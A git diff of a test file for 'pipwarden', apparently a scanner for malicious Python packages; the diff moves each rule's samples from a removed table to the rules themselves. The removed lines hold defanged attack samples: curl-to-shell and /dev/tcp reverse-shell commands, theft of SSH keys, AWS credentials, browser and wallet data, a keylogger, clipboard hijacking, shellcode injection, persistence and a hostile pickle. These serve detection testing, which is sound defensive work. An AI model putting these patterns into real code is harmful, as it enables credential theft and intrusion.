@@ -1,20 +1,23 @@
-"""Each rule: one positive and one negative sample (defanged: example.invalid, inert)."""
+"""Each scanner rule's samples, declared beside it in scan/rules/<family>.py: a positive one
+fires it, a negative one does not (defanged: example.invalid, inert); then the techniques."""
 
 from __future__ import annotations
 
 import base64
 import codecs
-import marshal
+import warnings
+import zipfile
 import zlib
 from pathlib import Path
 
 import pytest
 
+from pipwarden.rules import Sample, negative, positive
 from pipwarden.scan import patterns as P
 from pipwarden.scan import scan_target
 from pipwarden.scan.engine import FileContext, analyse_member
 from pipwarden.scan.rules import CATALOGUE
-from tests.support.builders import build_sdist, build_wheel
+from tests.support.builders import build_sdist, build_wheel, compress, tar_bytes
 
 INERT = "print('inert sample')"
 B64 = base64.b64encode(INERT.encode()).decode()
@@ -22,21 +25,6 @@ HEX = INERT.encode().hex()
 ZLIB = zlib.compress(INERT.encode())
 ROT = codecs.encode(INERT, "rot13")
 URL = "https://example.invalid/x"
-ELF_B64 = base64.b64encode(b"\x7fELF" + bytes(60)).decode()
-
-
-def _zip(files: dict[str, str]) -> bytes:
-    import io
-    import zipfile
-
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w") as z:
-        for name, text in files.items():
-            z.writestr(name, text)
-    return buf.getvalue()
-
-
-_NOISY = "".join(c for c in map(chr, range(33, 127)) if c not in "'\"\\")
 
 
 def rules_of(source: str | bytes, name: str = "pkg/mod.py", kind: str = "wheel") -> set[str]:
@@ -44,538 +32,77 @@ def rules_of(source: str | bytes, name: str = "pkg/mod.py", kind: str = "wheel")
     return {f.rule for f in analyse_member(FileContext(name, kind, kind == "wheel"), data)}
 
 
-# (rule, positive, negative, member name, target kind)
-CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
-    (
-        "install-hook.network",
-        f"import urllib.request\nurllib.request.urlopen({URL!r})\nsetup(name='x')\n",
-        "from setuptools import setup\nsetup(name='x')\n",
-        "p-1/setup.py",
-        "sdist",
-    ),
-    (
-        "install-hook.process",
-        "import subprocess\nsubprocess.call(['make'])\n",
-        "import subprocess\ndef build():\n    subprocess.call(['make'])\n",
-        "p-1/setup.py",
-        "sdist",
-    ),
-    (
-        "install-hook.cmdclass",
-        "from setuptools import setup\nfrom setuptools.command.build_py import build_py\n"
-        "class B(build_py):\n    def run(self):\n        build_py.run(self)\n"
-        "setup(name='x', cmdclass={'build_py': B})\n",
-        "from setuptools import setup\nclass B:\n    pass\nsetup(name='x')\n",
-        "p-1/setup.py",
-        "sdist",
-    ),
-    (
-        "install-hook.cmdclass-payload",
-        "import urllib.request\nfrom setuptools import setup\n"
-        "from setuptools.command.install import install\n"
-        "class I(install):\n    def run(self):\n"
-        f"        urllib.request.urlopen({URL!r})\n        install.run(self)\n"
-        "setup(name='x', cmdclass={'install': I})\n",
-        "from setuptools import setup\nfrom setuptools.command.install import install\n"
-        "class I(install):\n    def run(self):\n        install.run(self)\n"
-        "setup(name='x', cmdclass={'install': I})\n",
-        "p-1/setup.py",
-        "sdist",
-    ),
-    (
-        "install-hook.in-tree-backend",
-        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
-        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
-        "p-1/pyproject.toml",
-        "sdist",
-    ),
-    (
-        "startup-hook.pth-exec",
-        "import os; os.environ.setdefault('X', '1')\n",
-        "/opt/extra/lib\n",
-        "extra.pth",
-        "wheel",
-    ),
-    (
-        "startup-hook.pth-payload",
-        "import os; os.system('id')\n",
-        "import os; os.environ.setdefault('X', '1')\n",
-        "extra.pth",
-        "wheel",
-    ),
-    ("startup-hook.sitecustomize", "x = 1\n", "x = 1\n", "sitecustomize.py", "wheel"),
-    (
-        "startup-hook.sitecustomize-payload",
-        f"import urllib.request\ndef beacon():\n    urllib.request.urlopen({URL!r})\n",
-        "import sys\nsys.dont_write_bytecode = True\n",
-        "sitecustomize.py",
-        "wheel",
-    ),
-    (
-        "binary-dropper.run-shipped",
-        "import os, subprocess\n"
-        "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'bin', 'helper')])\n",
-        "import os, subprocess\n"
-        "subprocess.call(['git', '-C', os.path.dirname(__file__), 'describe'])\n",
-        "pkg/__init__.py",
-        "wheel",
-    ),
-    (
-        "binary-dropper.embedded",
-        f"import base64\nBIN = base64.b64decode({ELF_B64!r})\n",
-        f"import base64\nICON = base64.b64decode({base64.b64encode(b'GIF89a' + bytes(60)).decode()!r})\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "startup-hook.import-network",
-        f"import urllib.request\nurllib.request.urlopen({URL!r})\n",
-        f"import urllib.request\ndef f():\n    return urllib.request.urlopen({URL!r})\n",
-        "pkg/__init__.py",
-        "wheel",
-    ),
-    (
-        "startup-hook.import-process",
-        "import subprocess\nsubprocess.run(['id'])\n",
-        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['id'])\n",
-        "pkg/__init__.py",
-        "wheel",
-    ),
-    (
-        "obfuscation.exec-decoded",
-        f"import base64\nexec(base64.b64decode({B64!r}))\n",
-        "exec(compile(open('version.py').read(), 'version.py', 'exec'))\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "obfuscation.marshal-literal",
-        f"import marshal\nc = marshal.loads({marshal.dumps(compile(INERT, 'x', 'exec'))!r})\n",
-        "import marshal\ndef load(f):\n    return marshal.loads(f.read())\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "obfuscation.hidden-name",
-        "f = getattr(__builtins__, 'ex' + 'ec')\n",
-        "f = getattr(obj, 'name')\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "obfuscation.builtin-alias",
-        "from builtins import *\nRun, Text, Many, Walk = exec, str, tuple, map\n",
-        "x, y, z = str, int, float\nrun = exec\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "obfuscation.encoded-blob",
-        f"BLOB = {base64.b64encode(bytes(range(256)) * 2).decode()!r}\n",
-        f"NAME = {'abcdefgh_' * 40!r}\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "obfuscation.high-entropy",
-        "K = '" + "".join(_NOISY[(i * 37) % len(_NOISY)] for i in range(300)) + "'\n",
-        "K = '" + "ab" * 200 + "'\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "download-execute.remote-code",
-        f"from urllib.request import urlopen\nexec(urlopen({URL!r}).read())\n",
-        f"import json\nfrom urllib.request import urlopen\ndata = json.loads(urlopen({URL!r}).read())\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "download-execute.remote-command",
-        "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n",
-        "import os\nos.system('git status')\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "download-execute.drop-and-run",
-        "import os, urllib.request\ndef go():\n"
-        f"    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n    os.system('/tmp/x')\n",
-        f"import urllib.request\ndef go():\n    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "exfiltration.credentials",
-        "import os, requests\ndef f():\n"
-        "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
-        f"    requests.post({URL!r}, data=key)\n",
-        "import requests\ndef f():\n    cfg = open('config.json').read()\n"
-        f"    requests.post({URL!r}, data=cfg)\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "exfiltration.host-info",
-        f"import socket, requests\ndef f():\n    requests.post({URL!r}, data={{'h': socket.gethostname()}})\n",
-        f"import requests\ndef f():\n    requests.post({URL!r}, data={{'a': 1}})\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "exfiltration.credential-access",
-        "import os\ndef f():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
-        "def f():\n    return open('settings.ini').read()\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "exfiltration.browser-data",
-        "import os\ndef f(base):\n"
-        "    return open(os.path.join(base, 'Google/Chrome/User Data/Default/Login Data'), 'rb')\n",
-        "def f():\n    return open('data.db', 'rb')\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "reverse-shell.socket-shell",
-        "import socket, os, pty\ndef f():\n    s = socket.socket()\n"
-        "    s.connect(('example.invalid', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
-        "import socket\ndef f():\n    s = socket.socket()\n"
-        "    s.connect(('example.invalid', 80))\n    s.sendall(b'ping')\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "reverse-shell.command",
-        "import os\nos.system('bash -i >& /dev/tcp/example.invalid/4444 0>&1')\n",
-        "import os\nos.system(\"bash -c 'echo hi'\")\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "persistence.autostart",
-        "def f():\n    open('/etc/cron.d/job', 'w').write('* * * * * true\\n')\n",
-        "def f():\n    return open('/etc/hosts').read()\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "binary-dropper.shellcode",
-        "import ctypes, base64\nbuf = base64.b64decode('kJCQkA==')\nk = ctypes.windll.kernel32\n"
-        "p = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.memmove(p, buf, len(buf))\n"
-        "k.CreateThread(0, 0, p, 0, 0, 0)\n",
-        # A callback type alone is everyday ctypes.
-        "import ctypes\nCALLBACK = ctypes.CFUNCTYPE(None, ctypes.c_int)\n"
-        "def register(lib, fn):\n    lib.set_cb(CALLBACK(fn))\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "persistence.access",
-        "import os\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as fh:\n"
-        "    fh.write('ssh-ed25519 AAAAdefanged x@example.invalid')\n",
-        "import os\ndef keys():\n"
-        "    return open(os.path.expanduser('~/.ssh/authorized_keys')).read()\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "startup-hook.writes-startup",
-        "import os, site\n"
-        "open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w').write('import sys')\n",
-        # A PyTorch checkpoint is a .pth too; only site-packages makes it a start-up file.
-        "import os\ndef save(cache, data):\n"
-        "    open(os.path.join(cache, 'resnet18.pth'), 'wb').write(data)\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "exfiltration.surveillance",
-        "import requests\nfrom pynput import keyboard\nkeys = []\n"
-        "def on_press(k):\n    keys.append(str(k))\n"
-        "def flush():\n    requests.post('https://example.invalid/k', data=''.join(keys))\n"
-        "keyboard.Listener(on_press=on_press).start()\n",
-        "from pynput import keyboard\ndef hotkeys(cb):\n"
-        "    return keyboard.Listener(on_press=cb)\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "persistence.shell-rc",
-        "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
-        "        fh.write('alias ll=ls\\n')\n",
-        "import os\ndef f():\n    return open(os.path.expanduser('~/.bashrc')).read()\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "persistence.payload",
-        "import base64\ndef f():\n    with open('/etc/cron.d/job', 'wb') as fh:\n"
-        f"        fh.write(base64.b64decode({B64!r}))\n",
-        "def f():\n    with open('/etc/cron.d/job', 'w') as fh:\n        fh.write('* * * * * true')\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "hidden-process.detached",
-        "import subprocess\ndef f(cmd):\n"
-        "    subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)\n",
-        "import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd)\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "suspicious-endpoint.paste-site",
-        "U = 'https://pastebin.com/raw/abc'\n",
-        f"U = {URL!r}\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "suspicious-endpoint.webhook",
-        "U = 'https://discord.com/api/webhooks/1/abc'\n",
-        "U = 'https://discord.com/developers/docs'\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "suspicious-endpoint.tunnel",
-        "U = 'https://abc123.ngrok.io/collect'\n",
-        "U = 'https://docs.example.invalid/tunnels'\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "suspicious-endpoint.dynamic-dns",
-        "U = 'http://evil.duckdns.org/x'\n",
-        "U = 'http://ducks.example.invalid/x'\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "suspicious-endpoint.raw-ip",
-        "U = 'http://8.8.4.4/payload'\n",
-        "U = 'http://127.0.0.1:8000/ and http://10.0.0.1/'\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "suspicious-endpoint.contacted",
-        "import requests\ndef f():\n    requests.get('https://abc.ngrok.io/a')\n",
-        "def f():\n    print('https://abc.ngrok.io/a')\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "clipboard.read",
-        "import pyperclip\ndef f():\n    return pyperclip.paste()\n",
-        "import pyperclip\ndef f():\n    pyperclip.copy('x')\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "clipboard.wallet-hijack",
-        "import re, pyperclip\nBTC = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')\n"
-        "def f():\n    text = pyperclip.paste()\n    if BTC.match(text):\n"
-        "        pyperclip.copy('bc1-attacker-address-placeholder')\n",
-        "import pyperclip\ndef f():\n    text = pyperclip.paste()\n    pyperclip.copy(text.upper())\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "clipboard.wallet-files",
-        "import os\ndef f(home):\n    return open(os.path.join(home, '.bitcoin', 'wallet.dat'), 'rb')\n",
-        "def f():\n    return open('wall.txt', 'rb')\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "unsafe-deserialization.malicious-file",
-        # A protocol-0 pickle that calls os.system('echo inert') when loaded (never loaded here).
-        b"cos\nsystem\n(S'echo inert'\ntR.",
-        b"(dp0\nS'weights'\np1\n(lp2\nI1\naI2\nas.",
-        "pkg/model.pkl",
-        "wheel",
-    ),
-    (
-        "obfuscation.bytecode-only",
-        "import importlib.machinery, os\n"
-        "_l = importlib.machinery.SourcelessFileLoader('p.x', os.path.join("
-        "os.path.dirname(__file__), 'x.pyc'))\n",
-        "import importlib.machinery\n"
-        "def load(name, path):\n"
-        "    return importlib.machinery.SourcelessFileLoader(name, path)\n",
-        "pkg/__init__.py",
-        "wheel",
-    ),
-    (
-        "download-execute.direct-url-dependency",
-        '[project]\nname = "x"\ndependencies = ["helper @ https://files.example.invalid/h.tar.gz"]\n',
-        '[project]\nname = "x"\ndependencies = ["helper>=1", "other[extra]; python_version<\'3.12\'"]\n',
-        "x-1/pyproject.toml",
-        "sdist",
-    ),
-    (
-        "download-execute.runtime-install",
-        "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', "
-        "'git+https://git.example.invalid/x.git'])\n",
-        "import subprocess, sys\ndef install_extra(name):\n"
-        "    subprocess.call([sys.executable, '-m', 'pip', 'install', name])\n",
-        "pkg/__init__.py",
-        "wheel",
-    ),
-    (
-        "hidden-process.masquerade",
-        "import multiprocessing\ndef work():\n    pass\n"
-        "multiprocessing.Process(target=work, name='kworker/0:2').start()\n",
-        "import multiprocessing\ndef work():\n    pass\n"
-        "multiprocessing.Process(target=work, name='worker-1').start()\n",
-        "pkg/__init__.py",
-        "wheel",
-    ),
-    (
-        "hidden-process.miner",
-        "import subprocess\ndef f():\n    subprocess.Popen(['./xmrig', '-o', "
-        "'stratum+tcp://pool.example.invalid:3333'])\n",
-        "import subprocess\ndef f():\n    subprocess.Popen(['./server', '-o', 'out.log'])\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "suspicious-endpoint.hidden",
-        "import base64, requests\n"
-        "def f(data):\n    requests.post(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv'), data=data)\n",
-        "import requests\ndef f(data):\n    requests.post('https://api.example.invalid/v1', data=data)\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "exfiltration.function-hook",
-        "import requests, urllib.request\n_orig = requests.Session.request\n"
-        "def _request(self, method, url, **kw):\n"
-        "    urllib.request.urlopen('https://c.example.invalid/?u=' + url)\n"
-        "    return _orig(self, method, url, **kw)\n"
-        "requests.Session.request = _request\n",
-        # An SDK hooking on the user's init() call, not on import.
-        "import sys, urllib.request\ndef init(dsn):\n    def hook(tp, val, tb):\n"
-        "        urllib.request.urlopen(dsn)\n    sys.excepthook = hook\n",
-        "pkg/__init__.py",
-        "wheel",
-    ),
-    (
-        "reverse-shell.remote-control",
-        "import subprocess, requests\n"
-        "class Agent:\n"
-        "    def __init__(self):\n        self.s = requests.Session()\n"
-        "    def run(self):\n"
-        "        task = self.s.get('https://c2.example.invalid/task').json()\n"
-        "        handlers = {'x': self.do}\n"
-        "        handlers[task['k']](task)\n"
-        "    def do(self, task):\n"
-        "        subprocess.run(['uname'])\n"
-        "import threading\nthreading.Thread(target=Agent().run).start()\n",
-        # The same client used only when the application asks.
-        "import subprocess, requests\n"
-        "class Agent:\n"
-        "    def __init__(self):\n        self.s = requests.Session()\n"
-        "    def run(self):\n"
-        "        task = self.s.get('https://api.example.invalid/task').json()\n"
-        "        subprocess.run(['uname'])\n",
-        "pkg/__init__.py",
-        "wheel",
-    ),
-    (
-        "persistence.package-index",
-        "import os\np = os.path.expanduser('~/.config/pip/pip.conf')\n"
-        "with open(p, 'a') as f:\n    f.write('[global]\\nextra-index-url = https://example.invalid/simple\\n')\n",
-        "import os\np = os.path.expanduser('~/.config/pip/pip.conf')\nwith open(p) as f:\n    f.read()\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "persistence.command-shadow",
-        "[console_scripts]\ngit = gitx.cli:main\n",
-        "[console_scripts]\ngitx = gitx.cli:main\n",
-        "gitx-1.0.dist-info/entry_points.txt",
-        "wheel",
-    ),
-    (
-        "obfuscation.hidden-archive",
-        _zip(
-            {
-                "hidden/__init__.py": "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
-            }
-        ),
-        _zip({"fr/messages.json": '{"hello": "bonjour"}'}),
-        "pkg/locale.dat",
-        "wheel",
-    ),
-    (
-        "obfuscation.custom-codec",
-        "# -*- coding: utf8_compat -*-\nvzcbeg bf\n",
-        "# -*- coding: latin-1 -*-\nimport os\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "unsafe-deserialization.pickle",
-        "import pickle\ndef f(data):\n    return pickle.loads(data)\n",
-        "import json\ndef f(data):\n    return json.loads(data)\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "unsafe-deserialization.yaml",
-        "import yaml\ndef f(s):\n    return yaml.load(s)\n",
-        "import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.SafeLoader), yaml.safe_load(s)\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        "unsafe-deserialization.remote",
-        f"import pickle, requests\ndef f():\n    return pickle.loads(requests.get({URL!r}).content)\n",
-        "import pickle\ndef f():\n    return pickle.loads(open('cache.pkl', 'rb').read())\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    ("parse.not-parsed", "print 'hello'\n", "print('hello')\n", "pkg/mod.py", "wheel"),
-    (
-        "parse.too-deep",
-        "x = " + "(" * 10000 + "1" + ")" * 10000 + "\n",
-        "x = " + "(" * 20 + "1" + ")" * 20 + "\n",
-        "pkg/mod.py",
-        "wheel",
-    ),
-    (
-        # 630,000 tokens in 840 KB; the negative is larger (1.1 MB) but has 100,000 tokens.
-        "parse.too-large",
-        "x=1\n" * 210_000,
-        ("x = '" + "a" * 50 + "'\n") * 20_000,
-        "pkg/mod.py",
-        "wheel",
-    ),
-]
+def rules_of_sample(sample: Sample, tmp_path: Path) -> set[str]:
+    """The rules a sample fires: a file sample analysed as its path in a target of its kind,
+    an archive sample written out and scanned whole."""
+    if not sample.is_archive:
+        return rules_of(sample.data(), sample.path, sample.kind)
+    path = tmp_path / sample.path
+    if sample.members and sample.kind == "sdist":
+        path.write_bytes(compress(tar_bytes([(n, _bytes(d)) for n, d in sample.members]), "gz"))
+    elif sample.members or not sample.data():
+        with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as z:
+            warnings.simplefilter("ignore")  # a duplicate name, on purpose
+            for name, data in sample.members:
+                z.writestr(name, data)
+    else:
+        path.write_bytes(sample.data())
+    return {f.rule for f in scan_target(path).findings}
 
 
-@pytest.mark.parametrize(("rule", "pos", "neg", "name", "kind"), CASES, ids=[c[0] for c in CASES])
-def test_rule_positive_and_negative(rule: str, pos: str, neg: str, name: str, kind: str) -> None:
-    if rule == "startup-hook.sitecustomize":
-        assert rule in rules_of(pos, name, kind)
-        assert rule not in rules_of(neg, "pkg/site_utils.py", kind)
-        return
-    assert rule in rules_of(pos, name, kind)
-    assert rule not in rules_of(neg, name, kind)
+def _bytes(data: str | bytes) -> bytes:
+    return data.encode() if isinstance(data, str) else data
 
 
-def test_every_code_rule_has_a_case() -> None:
-    covered = {c[0] for c in CASES} | {
-        "binary-dropper.native-in-pure-wheel",
-        "binary-dropper.executable",
-        "model.malware-likely",  # tests/test_scan_model.py
-    }
-    code_rules = {r.id for r in CATALOGUE if not r.id.startswith("archive.")}
-    assert code_rules - covered == set()
+#: Samples not yet moved beside their rule's declaration, run as if declared there:
+#: (rule, positive, negative, member name, target kind). Move each into its rule as
+#: ``samples=(positive(pos, name, kind), negative(neg, name, kind))``.
+CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = []
+
+#: Scanner rules without samples, and why; the tests named show them instead.
+WITHOUT_SAMPLES = {
+    "model.malware-likely": "the trained model's judgement of a whole target's facts, "
+    "not of one input (tests/test_scan_model.py)",
+    "archive.zip-bomb": "megabytes that expand past the ratio limit (tests/test_scan_archive.py)",
+    "archive.member-too-large": "a member past the 64 MiB limit (tests/test_scan_archive.py)",
+    "archive.too-large": "a target past the 1 GiB limit (tests/test_scan_archive.py)",
+    "archive.too-many-members": "50,000 members (tests/test_scan_archive.py)",
+    "archive.budget-exceeded": "a scan past its time or memory budget (tests/test_scan_hostile.py)",
+    "archive.link": "a tar link header, which a member list cannot say "
+    "(tests/test_scan_archive.py, tests/test_scan_context.py)",
+    "archive.special-file": "a tar device or FIFO header (tests/test_scan_archive.py)",
+    "archive.truncated": "a compressed stream cut off (tests/test_scan_hostile.py)",
+    "archive.trailing-data": "bytes after a tar's end marker inside gzip (tests/test_scan_hostile.py)",
+    "archive.concatenated-gzip": "two gzip streams joined (tests/test_scan_hostile.py)",
+    "archive.unreadable": "declared for a file that cannot be opened, but no code reports it",
+}
+
+
+def _samples() -> list[object]:
+    params: list[object] = []
+    for r in CATALOGUE:
+        for i, sample in enumerate(r.samples):
+            kind = "positive" if sample.fires else "negative"
+            params.append(pytest.param(r.id, sample, id=f"{r.id}-{kind}-{i}"))
+    for rule, pos, neg, name, kind in CASES:
+        params.append(pytest.param(rule, positive(pos, name, kind), id=f"{rule}-positive-case"))
+        params.append(pytest.param(rule, negative(neg, name, kind), id=f"{rule}-negative-case"))
+    return params
+
+
+@pytest.mark.parametrize(("rule", "sample"), _samples())
+def test_rule_sample(rule: str, sample: Sample, tmp_path: Path) -> None:
+    """A positive sample fires its rule, a negative one does not."""
+    assert (rule in rules_of_sample(sample, tmp_path)) is sample.fires
+
+
+def test_every_scanner_rule_has_a_positive_and_a_negative_sample() -> None:
+    shown = {r.id: {s.fires for s in r.samples} for r in CATALOGUE}
+    for rule, *_ in CASES:
+        shown[rule] |= {True, False}
+    missing = {rule for rule, kinds in shown.items() if kinds != {True, False}}
+    assert missing == set(WITHOUT_SAMPLES)
+    assert not any(shown[rule] for rule in WITHOUT_SAMPLES)
 
 
 ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64
